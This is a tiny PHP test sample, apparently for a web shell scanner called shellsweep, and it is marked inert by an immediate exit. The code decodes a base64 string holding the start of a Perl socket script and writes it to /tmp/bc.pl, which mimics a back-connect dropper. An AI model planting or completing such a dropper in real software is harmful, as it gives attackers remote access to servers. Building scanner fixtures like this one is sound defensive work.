<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$bc = "IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7";
file_put_contents('/tmp/bc.pl', base64_decode($bc));
